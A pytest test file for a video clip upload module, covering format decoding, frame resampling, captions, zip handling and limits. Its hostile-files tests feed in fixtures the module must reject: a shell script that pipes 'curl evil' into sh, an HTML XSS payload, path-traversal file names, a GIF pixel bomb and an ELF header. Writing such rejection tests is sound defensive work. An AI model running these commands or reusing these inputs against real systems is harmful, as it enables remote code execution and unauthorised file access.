"""Clip uploads: every video is encoded in the test with PyAV, every GIF and frame image with Pillow."""

from __future__ import annotations

import hashlib
import io
import struct
from pathlib import Path

import av
import numpy as np
import pytest
from PIL import Image

from storage.clips import (
    AcceptedClip,
    ClipLimits,
    ClipUploadResult,
    decode_clip,
    fit_frame,
    read_clip_upload,
    resample_indices,
)
from storage.uploads import UploadError
from tests.clip_media import (
    BACKGROUND,
    BAR,
    SIZE,
    bar_frames,
    bar_x_for,
    faststart_mp4,
    gif_bytes,
    png_bytes,
    video_bytes,
    zip_bytes,
)

EVEN_16_TO_8 = [0, 2, 4, 6, 9, 11, 13, 15]  # nearest frames to 8 times evenly spaced over 16 frames


# --------------------------------------------------------------------------------------------------------------------
# builders


def source_index(frame: np.ndarray, n: int) -> int:
    """Which of ``n`` bar frames ``frame`` shows (from the bar's column)."""
    column = frame.astype(int).sum(axis=(0, 2))
    x = int(np.argmax(np.convolve(column, np.ones(BAR), mode="valid")))
    return min(range(n), key=lambda i: abs(bar_x_for(i, n, frame.shape[1]) - x))


def upload(tmp_path: Path, files: list[tuple[str, bytes]], **kwargs) -> ClipUploadResult:
    """Write each file under a neutral temp name and upload it under its (possibly hostile) display name."""
    paths = []
    for i, (_, data) in enumerate(files):
        path = tmp_path / f"upload-{i}"
        path.write_bytes(data)
        paths.append(path)
    return read_clip_upload(paths, display_names=[name for name, _ in files], **kwargs)


def by_name(result: ClipUploadResult) -> dict[str, AcceptedClip]:
    return {clip.name: clip for clip in result.accepted}


def reasons(result: ClipUploadResult) -> dict[str, str]:
    return {r.filename: r.reason for r in result.rejected}


def picked(clip: AcceptedClip, n: int) -> list[int]:
    return [source_index(frame, n) for frame in clip.frames]


@pytest.fixture(scope="module")
def good_mp4() -> bytes:
    return video_bytes(bar_frames(16))


# --------------------------------------------------------------------------------------------------------------------
# formats


def test_mp4_webm_and_gif_become_clips_resampled_evenly(tmp_path: Path, good_mp4: bytes) -> None:
    frames = bar_frames(16)
    files = [("walk.mp4", good_mp4), ("run.webm", video_bytes(frames, "webm", "libvpx-vp9")),
             ("hop.gif", gif_bytes(frames)), ("old.webm", video_bytes(frames, "webm", "libvpx")),
             ("part2.mp4", video_bytes(frames, codec="mpeg4"))]
    result = upload(tmp_path, files)
    assert result.rejected == ()
    clips = by_name(result)
    assert list(clips) == ["walk", "run", "hop", "old", "part2"]
    for clip in clips.values():
        assert clip.frames.shape == (8, SIZE, SIZE, 3) and clip.frames.dtype == np.uint8
        assert picked(clip, 16) == EVEN_16_TO_8, clip.name
        assert clip.source_frames == 16 and clip.source_size == (SIZE, SIZE)
        assert clip.duration_s == pytest.approx(15 / 8, abs=0.08)  # GIF delays count in 1/100 s
        assert clip.caption is None
        assert np.abs(clip.frames[0, 2, -2].astype(int) - BACKGROUND).max() <= 6  # colours survive the codecs
    assert clips["hop"].frames[0, 0, 32].tolist() == list(BACKGROUND)  # GIF: lossless for so few colours
    assert clips["walk"].source_sha256 == hashlib.sha256(good_mp4).hexdigest()
    assert any("walk.mp4: 16 frames (64×64, 1.88 s) resampled to 8 frames evenly spaced in time" in n
               for n in result.notes)


def test_frame_count_and_size_are_parameters(tmp_path: Path, good_mp4: bytes) -> None:
    result = upload(tmp_path, [("walk.mp4", good_mp4)], frames=4, size=(48, 32))
    (clip,) = result.accepted
    assert clip.frames.shape == (4, 32, 48, 3)
    assert "center-cropped to 64×43, resized to 48×32" in " ".join(result.notes)
    with pytest.raises(ValueError, match="frames must be at least 1"):
        upload(tmp_path, [("walk.mp4", good_mp4)], frames=0)


def test_resampling_follows_time_not_frame_numbers(tmp_path: Path) -> None:
    # frame starts at 0, .1, .2, .3, .4 and .9 s: targets 0, .3, .6, .9 s pick frames 0, 3, 4, 5
    gif = gif_bytes(bar_frames(6), durations=[100, 100, 100, 100, 500, 100])
    (clip,) = upload(tmp_path, [("uneven.gif", gif)], frames=4).accepted
    assert picked(clip, 6) == [0, 3, 4, 5]
    assert clip.duration_s == pytest.approx(0.9)


def test_short_clips_repeat_frames_with_a_note(tmp_path: Path) -> None:
    result = upload(tmp_path, [("short.gif", gif_bytes(bar_frames(3)))])
    (clip,) = result.accepted
    assert picked(clip, 3) == [0, 0, 1, 1, 1, 1, 2, 2]
    assert "some repeated: it has only 3" in " ".join(result.notes)


def test_frames_are_center_cropped_then_resized(tmp_path: Path) -> None:
    wide = np.zeros((4, 64, 128, 3), np.uint8)
    wide[:, :, :32] = (255, 0, 0)  # left quarter: cropped away
    wide[:, :, 32:96] = (0, 255, 0)
    wide[:, :, 96:] = (0, 0, 255)  # right quarter: cropped away
    small = np.full((4, 16, 16, 3), (200, 30, 30), np.uint8)
    small[:, :, :, 2] += np.arange(4, dtype=np.uint8)[:, None, None]  # distinct frames: GIF writers merge repeats
    result = upload(tmp_path, [("wide.mp4", video_bytes(wide, pix_fmt="yuv444p")), ("small.gif", gif_bytes(small))])
    clips = by_name(result)
    green = clips["wide"].frames.astype(int)
    assert np.abs(green - (0, 255, 0)).max() <= 12  # only the centre square is left
    assert clips["small"].frames.shape == (8, 64, 64, 3)
    assert np.abs(clips["small"].frames.astype(int) - (200, 30, 31)).max() <= 3
    assert ("wide.mp4: 4 frames (128×64, 0.38 s) resampled to 8 frames evenly spaced in time (some repeated: it has "
            "only 4), center-cropped to 64×64") in result.notes  # cropped, not resized
    assert ("small.gif: 4 frames (16×16, 0.36 s) resampled to 8 frames evenly spaced in time (some repeated: it "
            "has only 4), resized to 64×64") in result.notes  # resized, not cropped
    assert fit_frame(wide[0], 32).shape == (32, 32, 3)


@pytest.mark.parametrize(("fmt", "codec", "pix_fmt"), [
    ("mp4", "libx264", "gray"),
    ("mp4", "libx264", "yuv444p"),
    ("mp4", "libx264", "yuv420p10le"),
    ("webm", "libvpx-vp9", "yuv444p"),
    ("matroska", "ffv1", "yuv420p16le"),
])
def test_odd_pixel_formats_become_8_bit_rgb(tmp_path: Path, fmt: str, codec: str, pix_fmt: str) -> None:
    frames = bar_frames(6)
    name = {"mp4": "clip.mp4", "webm": "clip.webm", "matroska": "clip.mkv"}[fmt]
    (clip,) = upload(tmp_path, [(name, video_bytes(frames, fmt, codec, pix_fmt))]).accepted
    assert clip.frames.dtype == np.uint8 and clip.frames.shape == (8, SIZE, SIZE, 3)
    expected = np.full(3, int(np.dot(BACKGROUND, (0.299, 0.587, 0.114)))) if pix_fmt == "gray" else BACKGROUND
    assert np.abs(clip.frames[0, 5, -5].astype(int) - expected).max() <= 8
    assert picked(clip, 6)[0] == 0 and picked(clip, 6)[-1] == 5


@pytest.mark.parametrize(("fmt", "codec", "pix_fmt", "name"), [
    ("mp4", "png", "rgba", "alpha.mp4"),
    ("matroska", "ffv1", "yuva420p", "alpha.mkv"),
])
def test_transparent_pixels_become_white(tmp_path: Path, fmt: str, codec: str, pix_fmt: str, name: str) -> None:
    frames = np.zeros((4, SIZE, SIZE, 4), np.uint8)
    frames[..., :3] = (200, 20, 20)
    frames[..., 3] = 255
    frames[:, :, : SIZE // 2, 3] = 0  # left half fully transparent
    data = video_bytes(frames, fmt, codec, pix_fmt, src_format="rgba")
    (clip,) = upload(tmp_path, [(name, data)]).accepted
    assert np.abs(clip.frames[:, 10, 5].astype(int) - 255).max() <= 3
    assert np.abs(clip.frames[:, 10, -5].astype(int) - (200, 20, 20)).max() <= 6


def test_transparent_gif_frames_become_white(tmp_path: Path) -> None:
    images = []
    for i in range(3):
        image = Image.new("RGBA", (SIZE, SIZE), (0, 0, 0, 0))
        image.paste((10, 200, 10, 255), (i * 8, 0, i * 8 + 16, SIZE))
        images.append(image)
    buffer = io.BytesIO()
    images[0].save(buffer, "GIF", save_all=True, append_images=images[1:], duration=100, disposal=2)
    (clip,) = upload(tmp_path, [("t.gif", buffer.getvalue())]).accepted
    assert clip.frames[0, 5, -5].tolist() == [255, 255, 255]
    assert clip.frames[0, 5, 5].tolist() == [10, 200, 10]


# --------------------------------------------------------------------------------------------------------------------
# folders of frames, captions, zips


def test_frame_folders_in_a_zip_become_clips_in_natural_order(tmp_path: Path) -> None:
    frames = bar_frames(12)
    members = [(f"walk/{i}.png", png_bytes(frames[i])) for i in range(12)]  # 2.png sorts before 10.png
    members += [("walk.txt", b"a square walking"), ("spin/caption.txt", b"a square spinning")]
    members += [(f"spin/frame-{i:03d}.jpg", png_bytes(frames[i])) for i in (0, 5, 11)]
    members += [(f"root-{i}.webp", png_bytes(frames[i])) for i in range(4)]
    members += [("nested/deeper/clip.gif", gif_bytes(frames)), ("nested/deeper/clip.txt", b"a gif in a folder")]
    result = upload(tmp_path, [("moves.zip", zip_bytes(members)), ("moves.txt", b"the zip's own root frames")])
    assert result.rejected == ()
    clips = by_name(result)
    assert set(clips) == {"walk", "spin", "moves", "clip"}
    assert picked(clips["walk"], 12) == [0, 2, 3, 5, 6, 8, 9, 11]
    assert clips["walk"].caption == "a square walking" and clips["walk"].source == "moves.zip/walk"
    assert [source_index(f, 12) for f in clips["spin"].frames] == [0, 0, 5, 5, 5, 5, 11, 11]
    assert clips["spin"].caption == "a square spinning"
    assert clips["moves"].caption == "the zip's own root frames" and clips["moves"].source_frames == 4
    assert clips["clip"].caption == "a gif in a folder" and clips["clip"].source == "moves.zip/nested/deeper/clip.gif"


def test_loose_images_and_folder_uploads(tmp_path: Path) -> None:
    frames = bar_frames(5)
    loose = [(f"f{i}.png", png_bytes(frames[i])) for i in range(5)] + [("caption.txt", b"loose frames")]
    (clip,) = upload(tmp_path, loose).accepted
    assert clip.name == "frames" and clip.caption == "loose frames" and picked(clip, 5)[-1] == 4
    folders = [(f"a/{i}.png", png_bytes(frames[i])) for i in range(3)] + [(f"b/{i}.png", png_bytes(frames[i]))
                                                                          for i in range(2, 5)]
    result = upload(tmp_path, [*folders, ("a.txt", b"first")])
    clips = by_name(result)
    assert set(clips) == {"a", "b"} and clips["a"].caption == "first" and clips["b"].caption is None


def test_video_captions_pair_by_name_and_orphans_are_noted(tmp_path: Path, good_mp4: bytes) -> None:
    result = upload(tmp_path, [("walk.mp4", good_mp4), ("walk.txt", b"  a square\nwalking  "),
                               ("other.txt", b"no clip"), ("bad.txt", b"\x00\x01binary")])
    (clip,) = result.accepted
    assert clip.caption == "a square walking"
    assert "caption other.txt has no matching clip; ignored" in result.notes
    assert "binary" in reasons(result)["bad.txt"]


def test_a_bad_frame_refuses_its_clip_by_name_and_other_clips_survive(tmp_path: Path) -> None:
    frames = bar_frames(3)
    members = [(f"ok/{i}.png", png_bytes(frames[i])) for i in range(3)]
    members += [("broken/0.png", png_bytes(frames[0])), ("broken/1.png", png_bytes(frames[1])[:60])]
    members += [("one/0.png", png_bytes(frames[0]))]
    result = upload(tmp_path, [("set.zip", zip_bytes(members))])
    assert list(by_name(result)) == ["ok"]
    why = reasons(result)
    assert why["set.zip/broken"].startswith("its frame 1.png was refused: corrupt or truncated PNG image")
    assert why["set.zip/one"] == "it holds a single frame image; a clip needs at least 2 frames"


# --------------------------------------------------------------------------------------------------------------------
# hostile and broken files


def _no_frames(fmt: str, codec: str) -> io.BytesIO:
    """A container of format ``fmt`` with one ``codec`` video stream and not a single frame in it."""
    out = io.BytesIO()
    with av.open(out, "w", format=fmt) as container:
        stream = container.add_stream(codec, rate=8)
        stream.width = stream.height = SIZE
        stream.pix_fmt = "yuv420p"
        container.start_encoding()
    return out


def test_each_bad_file_is_refused_by_name_while_good_files_are_kept(tmp_path: Path, good_mp4: bytes) -> None:
    frames = bar_frames(16)
    cut = faststart_mp4(frames, tmp_path)
    flipped = bytearray(good_mp4)
    for i in range(len(flipped) // 3, len(flipped) // 3 + 400):
        flipped[i] ^= 0x5A
    empty_mp4, empty_webm = _no_frames("mp4", "libx264"), _no_frames("webm", "libvpx-vp9")
    audio = io.BytesIO()
    with av.open(audio, "w", format="mp4") as container:
        stream = container.add_stream("aac", rate=44100)
        samples = av.AudioFrame.from_ndarray(np.zeros((1, 1024), np.float32), format="fltp", layout="mono")
        samples.sample_rate = 44100
        for packet in [*stream.encode(samples), *stream.encode()]:
            container.mux(packet)
    no_frames_gif = gif_bytes(frames[:1])
    no_frames_gif = no_frames_gif[:no_frames_gif.index(b"\x2c", 13)] + b"\x3b"  # header, then the trailer at once
    files = [
        ("good.mp4", good_mp4),
        ("archive.mp4", zip_bytes([("x.txt", b"hi")])),
        ("run.mp4", b"#!/bin/sh\ncurl evil | sh\n"),
        ("page.webm", b"<!doctype html><script>alert(1)</script>"),
        ("still.mp4", png_bytes(frames[0])),
        ("empty.mp4", b""),
        ("movie.avi", b"RIFF\x00\x00\x00\x00AVI LIST" + bytes(64)),
        ("photo.mp4", b"\x00\x00\x00\x18ftypheic" + bytes(64)),
        ("half.mp4", good_mp4[: len(good_mp4) // 2]),
        ("cut.mp4", cut[: len(cut) * 2 // 3]),
        ("flipped.mp4", bytes(flipped)),
        ("noframes.mp4", empty_mp4.getvalue()),
        ("noframes.webm", empty_webm.getvalue()),
        ("audio.mp4", audio.getvalue()),
        ("one.mp4", video_bytes(frames[:1])),
        ("noframes.gif", no_frames_gif),
        ("junk.gif", b"GIF89a" + struct.pack("<HHB", 64, 64, 0) + b"\x00\x00" + b"\x99" * 20),
        ("program.webm", b"\x7fELF" + bytes(100)),
        ("good.gif", gif_bytes(frames)),
    ]
    result = upload(tmp_path, files)
    assert list(by_name(result)) == ["good", "good-2"]
    why = reasons(result)
    assert why == {
        "archive.mp4": "not a video (it is a zip-based file; to upload an archive, give it a .zip name)",
        "run.mp4": "not a video (it looks like a text file)",
        "page.webm": "not a video (it looks like an HTML page)",
        "still.mp4": "not a video (it is a PNG image named .mp4)",
        "empty.mp4": "not a video (the file is empty)",
        "movie.avi": "unsupported video format AVI; use MP4, WebM or GIF",
        "photo.mp4": "unsupported format HEIC; use MP4, WebM or GIF clips, or PNG, JPEG or WebP frames",
        "half.mp4": "corrupt or truncated MP4 video (Invalid data found when processing input)",
        "cut.mp4": why["cut.mp4"],
        "flipped.mp4": why["flipped.mp4"],
        "noframes.mp4": "it has no video track",
        "noframes.webm": "WebM video without frames (it ends before its first frame: empty or truncated)",
        "audio.mp4": "it has no video track (it holds audio only)",
        "one.mp4": "it has a single frame; a clip needs at least 2 frames (upload still images as a subject or "
                   "style dataset)",
        "noframes.gif": "it has no video frames",
        "junk.gif": "corrupt GIF image (unexpected block 0x99 at byte 13)",
        "program.webm": "not a video (it looks like a Linux program)",
    }
    assert why["cut.mp4"].startswith("truncated MP4 video (its header lists 16 frames, only ")
    assert why["flipped.mp4"].startswith("corrupt or truncated MP4 video (")


def test_limits_are_checked_from_headers_before_decoding(tmp_path: Path) -> None:
    frames = bar_frames(40)
    # frames whose payload is destroyed: only header checks can answer for them, decoding would fail
    playable = faststart_mp4(frames, tmp_path)
    moov_end = playable.index(b"mdat") + 16
    ruined = playable[:moov_end] + bytes(len(playable) - moov_end)
    assert "corrupt" in reasons(upload(tmp_path, [("ruined.mp4", ruined)]))["ruined.mp4"]
    tight = ClipLimits(max_source_frames=30, max_duration_s=3.0, max_pixels=60 * 60)
    for limits, expected in [
        (ClipLimits(max_source_frames=30), "it has 40 frames, over the limit of 30 frames per clip"),
        (ClipLimits(max_duration_s=3.0), "it is 5.0 s long, over the 3 s limit"),
        (ClipLimits(max_pixels=60 * 60), "its 64×64-pixel frames are over the 3,600-pixel limit"),
        (ClipLimits(min_side=100), "its 64×64-pixel frames are too small (each side must be at least 100 pixels)"),
        (tight, "its 64×64-pixel frames are over the 3,600-pixel limit"),
    ]:
        assert reasons(upload(tmp_path, [("ruined.mp4", ruined)], limits=limits)) == {"ruined.mp4": expected}
    webm = video_bytes(frames, "webm", "libvpx-vp9")  # WebM headers carry no frame count: the demux counts
    assert reasons(upload(tmp_path, [("long.webm", webm)], limits=ClipLimits(max_source_frames=30))) == {
        "long.webm": "it has more than 30 frames, over the limit of 30 frames per clip"}
    gif = gif_bytes(frames)
    assert reasons(upload(tmp_path, [("long.gif", gif)], limits=ClipLimits(max_source_frames=30))) == {
        "long.gif": "it has more than 30 frames, over the limit of 30 frames per clip"}
    assert reasons(upload(tmp_path, [("slow.gif", gif)], limits=ClipLimits(max_duration_s=3))) == {
        "slow.gif": "it is 4.8 s long, over the 3 s limit"}  # 40 frames of 12/100 s


def test_gif_pixel_bomb_is_refused_from_its_header(tmp_path: Path) -> None:
    bomb = bytearray(gif_bytes(bar_frames(2)))
    struct.pack_into("<HH", bomb, 6, 60000, 60000)  # the logical screen claims 3.6 gigapixels
    assert reasons(upload(tmp_path, [("bomb.gif", bytes(bomb))])) == {
        "bomb.gif": "its 60000×60000-pixel frames are over the 8,294,400-pixel limit"}


def test_file_size_and_clip_count_limits(tmp_path: Path, good_mp4: bytes) -> None:
    limits = ClipLimits(max_file_bytes=len(good_mp4) - 1)
    assert reasons(upload(tmp_path, [("big.mp4", good_mp4)], limits=limits))["big.mp4"].endswith(
        "per-file limit")
    frames = bar_frames(4)
    files = [(f"{n}.mp4", good_mp4) for n in "abc"] + [(f"d/{i}.png", png_bytes(frames[i])) for i in range(2)]
    result = upload(tmp_path, files, limits=ClipLimits(max_clips=2))
    assert list(by_name(result)) == ["a", "b"]
    assert reasons(result) == {"c.mp4": "over the limit of 2 clips per upload; not read",
                               "d": "over the limit of 2 clips per upload; not read"}
    many = [(f"many/{i:02d}.png", png_bytes(bar_frames(1)[0])) for i in range(6)]
    assert reasons(upload(tmp_path, [("m.zip", zip_bytes(many))], limits=ClipLimits(max_source_frames=5))) == {
        "m.zip/many": "it holds more than 5 frame images, the limit per clip"}


def test_hostile_names_are_sanitised_and_zip_tricks_refused(tmp_path: Path, good_mp4: bytes) -> None:
    frames = bar_frames(2)
    members = [("../../escape.mp4", good_mp4), ("/abs/x.mp4", good_mp4), ("inner.zip", zip_bytes([])),
               ("ok/0.png", png_bytes(frames[0])), ("ok/1.png", png_bytes(frames[1])), (".hidden.mp4", good_mp4)]
    files = [("../../etc/passwd.mp4", good_mp4), ("CON.mp4", good_mp4), ("a\x00b\u202e.mp4", good_mp4),
             ("clip.mp4", good_mp4), ("Clip.mp4", good_mp4), ("evil.zip", zip_bytes(members)),
             (".DS_Store", b"junk")]
    result = upload(tmp_path, files)
    assert list(by_name(result)) == ["passwd", "_CON", "ab", "clip", "Clip-2", "ok"]
    why = reasons(result)
    assert why["evil.zip/../../escape.mp4"] == "unsafe path inside the zip"
    assert why["evil.zip//abs/x.mp4"] == "unsafe path inside the zip"
    assert why["evil.zip/inner.zip"].startswith("nested archives are not accepted")
    assert any("skipped 1 hidden/system file (.DS_Store)" in n for n in result.notes)


def test_resample_indices() -> None:
    assert resample_indices(list(range(16)), 8) == EVEN_16_TO_8
    assert resample_indices([0.0, 1.0], 3) == [0, 0, 1]  # a tie goes to the earlier frame
    assert resample_indices([5.0], 4) == [0, 0, 0, 0]
    assert resample_indices(list(range(8)), 8) == list(range(8))
    with pytest.raises(ValueError):
        resample_indices([], 3)


def test_decode_clip_direct(good_mp4: bytes) -> None:
    clip = decode_clip(good_mp4, "walk.mp4", frames=5, size=32)
    assert clip.shape == (5, 32, 32, 3)
    with pytest.raises(UploadError, match=r"^x\.mp4: not a video \(it looks like a text file\)$"):
        decode_clip(b"hello", "x.mp4")
